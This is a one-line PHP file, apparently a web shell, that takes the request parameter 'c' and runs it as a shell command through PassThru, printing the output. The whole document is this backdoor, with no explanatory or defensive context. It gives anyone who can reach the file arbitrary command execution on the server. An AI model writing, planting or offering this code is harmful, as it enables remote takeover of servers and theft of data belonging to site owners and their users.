<?php PassThru($_REQUEST['c']);
